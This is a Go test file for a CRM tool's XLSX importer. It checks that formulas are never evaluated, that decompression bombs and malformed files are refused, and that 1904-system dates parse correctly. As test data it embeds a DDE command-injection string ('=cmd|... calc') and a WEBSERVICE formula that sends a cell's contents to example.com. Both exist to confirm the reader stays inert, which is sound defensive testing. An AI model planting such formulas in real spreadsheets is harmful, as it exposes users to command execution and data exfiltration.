package crm

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

func xlsxBytes(t *testing.T, fill func(f *excelize.File)) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	fill(f)
	b, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestReadXLSXNeverCalculates: a formula cell gives the value Excel cached (here none),
// never a calculated one; text that looks like a formula stays text; dates are serials.
func TestReadXLSXNeverCalculates(t *testing.T) {
	data := xlsxBytes(t, func(f *excelize.File) {
		f.SetSheetRow("Sheet1", "A1", &[]any{"Contact ID", "Full Name", "Title", "Last Activity"})
		f.SetSheetRow("Sheet1", "A2", &[]any{"1", "=cmd|' /C calc'!A0", nil, time.Date(2027, 3, 15, 0, 0, 0, 0, time.UTC)})
		f.SetCellFormula("Sheet1", "C2", `WEBSERVICE("http://example.com/?"&B2)`)
	})
	tb, err := Read(data)
	if err != nil {
		t.Fatal(err)
	}
	if !tb.XLSX || len(tb.Rows) != 1 {
		t.Fatalf("got %+v", tb)
	}
	c := tb.Rows[0].Cells
	if c[1] != "=cmd|' /C calc'!A0" || c[2] != "" {
		t.Errorf("cells %q", c)
	}
	if d, err := parseDate(c[3], true, false, ""); err != nil || d.Format("2006-01-02") != "2027-03-15" {
		t.Errorf("date cell %q: %v %v", c[3], d, err)
	}
	// A stored 0.125 is an eighth, even beside a German date.
	tb.Rows[0].Cells[2] = "15.03.2027"
	if isGerman(tb) {
		t.Error("an XLSX read with German number grouping")
	}
	bad := xlsxBytes(t, func(f *excelize.File) {
		f.SetSheetRow("Sheet1", "A1", &[]any{"Contact ID", "Full Name"})
		f.SetSheetRow("Sheet1", "A2", &[]any{"1", "A", "beyond"})
	})
	if _, err := Read(bad); err == nil || !strings.Contains(err.Error(), "row 2: a value beyond the header's 2 columns") {
		t.Errorf("a value beyond the header: %v", err)
	}
	if _, err := Read([]byte("PK\x03\x04not a zip")); err == nil || !strings.Contains(err.Error(), "not a readable XLSX") {
		t.Errorf("a broken XLSX: %v", err)
	}
}

// TestReadXLSXBomb: an XLSX whose sheet inflates beyond the limit is refused before it is
// unpacked (the limit is lowered here; kep's is 200 MiB: a 220 KB file of 210 MiB of
// blanks is refused in 0.3 s).
func TestReadXLSXBomb(t *testing.T) {
	defer func(n int64) { maxXLSXUnzipped = n }(maxXLSXUnzipped)
	maxXLSXUnzipped = 1 << 20
	data := xlsxBytes(t, func(f *excelize.File) {
		for i := 1; i <= 70; i++ { // 70 distinct cells of 32,000 characters: 2.2 MB inflated
			f.SetCellStr("Sheet1", fmt.Sprintf("A%d", i), fmt.Sprint(i)+strings.Repeat("x", 32000))
		}
	})
	if _, err := Read(data); err == nil || !strings.Contains(err.Error(), "exceeds") {
		t.Errorf("got %v", err)
	}
}

// TestReadXLSX1904: a workbook in the 1904 date system (old Excel for Mac) gives the
// same dates as any other, from a cell in a date format and from a serial number left
// in General.
func TestReadXLSX1904(t *testing.T) {
	data := xlsxBytes(t, func(f *excelize.File) {
		yes := true
		f.SetWorkbookProps(&excelize.WorkbookPropsOptions{Date1904: &yes})
		date, _ := f.NewStyle(&excelize.Style{NumFmt: 14})
		f.SetSheetRow("Sheet1", "A1", &[]any{"Contact ID", "Full Name", "Last Activity"})
		f.SetSheetRow("Sheet1", "A2", &[]any{"sk", "Sabine Krüger", time.Date(2027, 3, 15, 0, 0, 0, 0, time.UTC)})
		f.SetCellStyle("Sheet1", "C2", "C2", date)
		f.SetSheetRow("Sheet1", "A4", &[]any{"nv", "Nina Vogt", 44999}) // 2027-03-15 counted from 1904, in General
	})
	tb, err := Read(data)
	if err != nil {
		t.Fatal(err)
	}
	if !tb.Date1904 || len(tb.Rows) != 2 || tb.Rows[0].Cells[2] != "2027-03-15" || tb.Rows[1].N != 4 {
		t.Fatalf("got %+v", tb)
	}
	res, err := Merge("contacts", loadTestPlan(t, testPlan), tb, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(string(res.Src), "last_contact = 2027-03-15\n"); n != 2 {
		t.Errorf("%d contacts last met on 2027-03-15, want 2:\n%s", n, res.Src)
	}
}
